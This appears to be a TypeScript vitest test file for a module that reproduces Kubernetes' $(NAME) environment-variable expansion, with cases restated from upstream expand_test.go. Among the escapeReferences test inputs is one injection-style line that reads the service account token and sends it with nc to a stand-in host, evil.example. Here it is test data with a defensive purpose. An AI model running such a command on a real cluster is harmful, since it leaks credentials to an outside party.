import { describe, expect, it } from 'vitest';

import { commandReferences, escapeReferences, expandReferences, literalOf, referencedNames } from '../../src/core/expansion.js';

/**
 * The kubelet's `$(NAME)` expansion, held to Kubernetes' own table: kubernetes/kubernetes
 * third_party/forked/golang/expansion/expand_test.go (`doExpansionTest`), whose cases are restated here with
 * the same context. The kubelet applies `Expand` to plain env values in declaration order
 * (pkg/kubelet/kubelet_pods.go, `makeEnvironmentVariables`: "If the variable's Value is set, expand the `$(var)`
 * references to other variables") and to command and args with the container's whole environment
 * (pkg/kubelet/container/helpers.go, `ExpandContainerCommandAndArgs`).
 */
const CONTEXT: Record<string, string> = { VAR_A: 'A', VAR_B: 'B', VAR_C: 'C', VAR_REF: '$(VAR_A)', VAR_EMPTY: '' };
const lookup = (name: string) => CONTEXT[name];

describe('expandReferences, case by case as expand_test.go', () => {
  it.each([
    { name: 'whole string', input: '$(VAR_A)', expected: 'A' },
    { name: 'repeat', input: '$(VAR_A)-$(VAR_A)', expected: 'A-A' },
    { name: 'beginning', input: '$(VAR_A)-1', expected: 'A-1' },
    { name: 'middle', input: '___$(VAR_B)___', expected: '___B___' },
    { name: 'end', input: '___$(VAR_C)', expected: '___C' },
    { name: 'compound', input: '$(VAR_A)_$(VAR_B)_$(VAR_C)', expected: 'A_B_C' },
    { name: 'escape & expand', input: '$$(VAR_B)_$(VAR_A)', expected: '$(VAR_B)_A' },
    { name: 'compound escape', input: '$$(VAR_A)_$$(VAR_B)', expected: '$(VAR_A)_$(VAR_B)' },
    { name: 'mixed in escapes', input: 'f000-$$VAR_A', expected: 'f000-$VAR_A' },
    { name: 'backslash escape ignored', input: 'foo\\$(VAR_C)bar', expected: 'foo\\Cbar' },
    { name: 'backslash escape ignored (two)', input: 'foo\\\\$(VAR_C)bar', expected: 'foo\\\\Cbar' },
    { name: 'lots of backslashes', input: 'foo\\\\\\\\$(VAR_A)bar', expected: 'foo\\\\\\\\Abar' },
    { name: 'nested var references', input: '$(VAR_A$(VAR_B))', expected: '$(VAR_A$(VAR_B))' },
    { name: 'nested var references second type', input: '$(VAR_A$(VAR_B)', expected: '$(VAR_A$(VAR_B)' },
    { name: 'value is a reference', input: '$(VAR_REF)', expected: '$(VAR_A)' },
    { name: 'value is a reference x 2', input: '%%$(VAR_REF)--$(VAR_REF)%%', expected: '%%$(VAR_A)--$(VAR_A)%%' },
    { name: 'empty var', input: 'foo$(VAR_EMPTY)bar', expected: 'foobar' },
    { name: 'unterminated expression', input: 'foo$(VAR_Awhoops!', expected: 'foo$(VAR_Awhoops!' },
    { name: 'expression without operator', input: 'f00__(VAR_A)__', expected: 'f00__(VAR_A)__' },
    { name: 'shell special vars pass through', input: '$?_boo_$!', expected: '$?_boo_$!' },
    { name: 'bare operators are ignored', input: '$VAR_A', expected: '$VAR_A' },
    { name: 'undefined vars are passed through', input: '$(VAR_DNE)', expected: '$(VAR_DNE)' },
    { name: 'multiple (even) operators, var undefined', input: '$$$$$$(BIG_MONEY)', expected: '$$$(BIG_MONEY)' },
    { name: 'multiple (even) operators, var defined', input: '$$$$$$(VAR_A)', expected: '$$$(VAR_A)' },
    { name: 'multiple (odd) operators, var undefined', input: '$$$$$$$(GOOD_ODDS)', expected: '$$$$(GOOD_ODDS)' },
    { name: 'multiple (odd) operators, var defined', input: '$$$$$$$(VAR_A)', expected: '$$$A' },
    { name: 'missing open expression', input: '$VAR_A)', expected: '$VAR_A)' },
    { name: 'shell syntax ignored', input: '${VAR_A}', expected: '${VAR_A}' },
    { name: 'trailing incomplete expression not consumed', input: '$(VAR_B)_______$(A', expected: 'B_______$(A' },
    { name: 'trailing incomplete expression, no content, is not consumed', input: '$(VAR_C)_______$(', expected: 'C_______$(' },
    { name: 'operator at end of input string is preserved', input: '$(VAR_A)foobarzab$', expected: 'Afoobarzab$' },
    { name: 'shell escaped incomplete expr', input: 'foo-\\$(VAR_A', expected: 'foo-\\$(VAR_A' },
    { name: 'lots of $( in middle', input: '--$($($($($--', expected: '--$($($($($--' },
    { name: 'lots of $( in beginning', input: '$($($($($--foo$(', expected: '$($($($($--foo$(' },
    { name: 'lots of $( at end', input: 'foo0--$($($($(', expected: 'foo0--$($($($(' },
    { name: 'escaped operators in variable names are not escaped', input: '$(foo$$var)', expected: '$(foo$$var)' },
    { name: 'newline not expanded', input: '\n', expected: '\n' },
    // Beyond the upstream table: a name is whatever lies before the first `)`, and a rune after `$` is kept whole.
    { name: 'a relaxed name with a space', input: 'x $(BATCH DATE) y', expected: 'x $(BATCH DATE) y' },
    { name: 'a non-ASCII rune after the operator', input: '$é$(VAR_A)', expected: '$éA' },
  ])('$name', ({ input, expected }) => {
    expect(expandReferences(input, lookup)).toBe(expected);
  });
});

describe('referencedNames', () => {
  it.each([
    { name: 'a reference in a shell line', input: 'echo report for $(REPORT_DATE)', names: ['REPORT_DATE'] },
    { name: 'an escaped reference is none', input: 'echo $$(REPORT_DATE)', names: [] },
    { name: 'an escape then a reference', input: '$$$(REPORT_DATE)', names: ['REPORT_DATE'] },
    { name: 'shell variables are not references', input: 'echo "$REPORT_DATE" ${REPORT_DATE} $((1+2))', names: ['(1+2'] },
    { name: 'two references', input: '$(A)-$(B)', names: ['A', 'B'] },
    { name: 'an unterminated one', input: 'echo $(A', names: [] },
    { name: 'an empty name', input: 'x$()y', names: [''] },
  ])('$name: $names', ({ input, names }) => {
    expect(referencedNames(input)).toEqual(names);
  });
});

describe('escapeReferences', () => {
  it.each([
    '$(DB_PASSWORD)',
    'x; cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc evil.example 80',
    '$$(A)',
    '$',
    'price: 5$',
    '$(A',
    '$$$$$$$(VAR_A)',
    'no dollar at all',
    '$(VAR_A)$(VAR_REF)',
  ])('%s reaches the process as written, whatever the context holds', (value) => {
    const escaped = escapeReferences(value);
    expect(expandReferences(escaped, lookup)).toBe(value);
    expect(referencedNames(escaped)).toEqual([]);
    expect(literalOf(escaped)).toBe(value);
  });
});

describe('commandReferences', () => {
  it('finds the names a command or args refer to, also through the plain env values they refer to', () => {
    const found = commandReferences({
      command: ['sh', '-c', 'echo report for $(REPORT_DATE) $(MESSAGE)'],
      args: ['--out=$(OUT_DIR)', '$$(ESCAPED)'],
      env: [
        { name: 'REGION', value: 'west' },
        { name: 'MESSAGE', value: 'hello from $(REGION)' },
        { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } },
        { name: 'UNUSED', value: '$(OTHER)' },
      ],
    });
    expect([...found].sort()).toEqual(['MESSAGE', 'OUT_DIR', 'REGION', 'REPORT_DATE']);
  });

  it('follows a cycle without looping', () => {
    const found = commandReferences({ command: ['$(A)'], env: [{ name: 'A', value: '$(B)' }, { name: 'B', value: '$(A)' }] });
    expect([...found].sort()).toEqual(['A', 'B']);
  });

  it('finds none without a command or args', () => {
    expect(commandReferences({ env: [{ name: 'A', value: '$(B)' }] }).size).toBe(0);
  });
});
